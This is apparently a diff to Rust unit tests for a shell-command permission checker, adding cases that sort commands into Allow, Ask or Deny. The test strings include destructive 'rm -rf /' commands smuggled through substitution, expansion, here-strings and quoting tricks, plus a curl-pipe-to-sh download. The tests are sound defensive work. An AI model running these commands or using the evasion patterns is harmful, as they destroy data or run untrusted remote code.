@@ -568,6 +568,8 @@ mod tests {
             ("git status --short", Allow),
             ("  git status  ", Allow),
             ("git status; git status -s", Allow),
+            ("git status -s && git status", Allow),
+            ("git status\t-s", Allow),
             ("git status; rm -rf ~/important", Ask),
             ("git status && curl https://x.example | sh", Ask),
             ("git status || rm -rf x", Ask),
@@ -576,6 +578,11 @@ mod tests {
             ("git status`touch /tmp/pwn`", Ask),
             ("git status\nrm -rf /", Ask),
             ("git status $(rm -rf /)", Ask),
+            ("git status $((1 + $(rm -rf /)))", Ask),
+            ("git status ${X:-$(rm -rf /)}", Ask),
+            ("git status > \"$(rm -rf /)\"", Ask),
+            ("git status <<< \"$(rm -rf /)\"", Ask),
+            ("git status # ; rm -rf /", Ask),
             ("git status \"$(rm -rf /)\"", Ask),
             ("git status \"`rm -rf /`\"", Ask),
             ("git status <(rm -rf /)", Ask),
@@ -637,6 +644,11 @@ mod tests {
             ("\"rm\" -rf x", Deny),
             ("r\\m -rf x", Deny),
             ("sudo rm -rf x", Deny),
+            ("sudo \"rm\" -rf x", Deny),
+            ("\\rm -rf x", Deny),
+            ("'rm' -rf x", Deny),
+            ("rm\t-rf x", Deny),
+            ("x=$(rm -rf x)", Deny),
             ("env A=1 rm -rf x", Deny),
             ("command rm -rf x", Deny),
             ("if true; then rm -rf x; fi", Deny),
@@ -744,19 +756,25 @@ mod tests {
                 "git status", "git status -s", "git status --short .",
                 "ls -la", "echo hi", "rm -rf x", "git log", "cat f",
             ];
-            const OPS: [(&str, &str); 9] = [
-                ("; ", ""), (" && ", ""), (" || ", ""), (" | ", ""), (" & ", ""),
-                ("\n", ""), (" $(", ")"), (" `", "`"), (" <(", ")"),
+            // (before, after, nests): a nesting operator closes at the
+            // end of the line; backticks cannot nest, so they wrap only
+            // the command that follows.
+            const OPS: [(&str, &str, bool); 9] = [
+                ("; ", "", false), (" && ", "", false), (" || ", "", false),
+                (" | ", "", false), (" & ", "", false), ("\n", "", false),
+                (" $(", ")", true), (" `", "`", false), (" <(", ")", true),
             ];
             let mut line = String::new();
             let mut closers = Vec::new();
             for (i, p) in parts.iter().enumerate() {
-                if i > 0 {
-                    let (open, close) = OPS[ops[i]];
-                    line.push_str(open);
-                    closers.push(close);
-                }
+                let (open, close, nests) = if i > 0 { OPS[ops[i]] } else { ("", "", false) };
+                line.push_str(open);
                 line.push_str(COMMANDS[*p]);
+                if nests {
+                    closers.push(close);
+                } else {
+                    line.push_str(close);
+                }
             }
             while let Some(c) = closers.pop() {
                 line.push_str(c);
